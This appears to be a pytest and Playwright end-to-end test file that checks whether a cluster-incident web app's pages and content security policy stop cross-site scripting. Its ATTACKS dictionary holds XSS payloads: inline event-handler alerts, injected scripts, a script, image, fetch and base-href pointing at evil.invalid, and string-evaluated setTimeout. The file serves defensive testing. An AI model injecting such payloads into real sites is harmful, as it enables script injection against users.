"""All that a cluster may say is an attack, and every page is looked at in Chromium: nothing runs, nothing is sent."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from msgspec.structs import replace
from playwright.async_api import Page

from app.core.roles import Role
from app.store import audit, incidents
from app.store.audit import Action
from app.store.partitions import ensure
from app.store.record import record
from app.web.filters import object_path
from tests.e2e.conftest import Program, Visit, browser, program, visit
from tests.web import world
from tests.web.test_escapes import ALL, CORPUS, hostile

__all__ = ["browser", "program", "visit"]
COUNT = """
    window.reports = [];
    addEventListener("securitypolicyviolation", (one) => reports.push(`${one.violatedDirective} ${one.blockedURI}`));
"""
INCIDENT = f"/incidents/{world.incident().id}"


@pytest.fixture(scope="module", autouse=True)
async def _recorded(program: Program) -> None:
    batch, incident, ranking = hostile()
    async with program.database.write.begin() as conn:
        await record(conn, batch)
        await incidents.save_incident(conn, replace(incident, status="open", merged_into=""))  # those are our own words
        await ensure(conn, "rankings", [ranking.ranked_at])
        await incidents.save_ranking(conn, ranking)
        await audit.note(conn, Action.VIEW_SAVED, ALL, by=ALL, address=ALL, now=world.END)


def pages() -> list[str]:
    batch, *_ = hostile()
    change = batch.changes[0]
    return [
        "/",
        INCIDENT,
        f"{INCIDENT}?rows=all&derived=shown",
        f"{INCIDENT}?change={change.id}",
        "/changes?derived=shown",
        f"/changes/{change.id}",
        object_path(change.resource),
        f"/explore?of=calls&cluster={world.CLUSTER}&by=user",
        "/clusters",
        f"/clusters/{world.CLUSTER}/control-plane",
        "/slack",
        "/accuracy",
        "/audit",
        "/incidents/new",
    ]


@pytest.mark.parametrize("path", pages())
async def test_nothing_of_it_runs(visit: Visit, path: str, record_property: Callable[[str, object], None]) -> None:
    async with visit(path, role=Role.ADMIN) as page:
        await page.evaluate(COUNT)
        await _touch(page)
        reports = await page.evaluate("reports")
        elements = await page.evaluate("document.querySelectorAll('*').length")
    assert reports == []
    assert elements > 50
    record_property("XSS: pages looked at in Chromium", 1)
    record_property("XSS: payloads that they show", len(CORPUS))
    record_property("XSS: dialogs, reports of CSP, requests elsewhere", len(reports))


async def _touch(page: Page) -> None:
    """What hands do: every reason opened, rows chosen, fields focused, the pointer over all."""
    await page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    for key in ("j", "Escape", "]", "[", "?", "Escape", "/"):
        await page.keyboard.press(key)
    await page.evaluate(
        """document.querySelectorAll('a, button, input, td, svg *').forEach((one) => {
            one.focus?.();
            for (const kind of ['mouseover', 'mouseenter', 'focusin'])
                one.dispatchEvent(new Event(kind, { bubbles: true }));
        })"""
    )
    await page.wait_for_timeout(150)


ATTACKS = {
    "a handler in markup": """document.body.insertAdjacentHTML('beforeend',
        '<img src=/static/icon.svg onload=alert(1)>')""",
    "a script in the page": """{ const one = document.createElement('script'); one.textContent = 'alert(1)';
        document.body.append(one); }""",
    "a script from elsewhere": """{ const one = document.createElement('script'); one.src = 'http://evil.invalid/x.js';
        document.body.append(one); }""",
    "a picture from elsewhere": """{ new Image().src = 'http://evil.invalid/x.png'; }""",
    "a style in the page": "document.body.insertAdjacentHTML('beforeend', '<p style=color:red>x</p>')",
    "a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=/></iframe>')",
    "a request elsewhere": "fetch('http://evil.invalid/').catch(() => 0)",
    "text that is run": "setTimeout('alert(1)')",
    "another base": "document.head.insertAdjacentHTML('beforeend', '<base href=http://evil.invalid/>')",
}


@pytest.mark.parametrize("attack", ATTACKS)
async def test_what_got_into_a_page_all_the_same_would_be_stopped_by_the_policy(
    visit: Visit, attack: str, record_property: Callable[[str, object], None]
) -> None:
    """The markup is put there past the templates: so the tests above would see it, and nothing of it runs."""
    async with visit("/clusters", forgiven="(?i)content security policy|EvalError|evil.invalid") as page:
        await page.evaluate(COUNT)
        await page.evaluate(ATTACKS[attack])
        await page.wait_for_function("reports.length > 0", timeout=5000)
    record_property("XSS: attacks past the templates, each stopped and reported by the policy", 1)
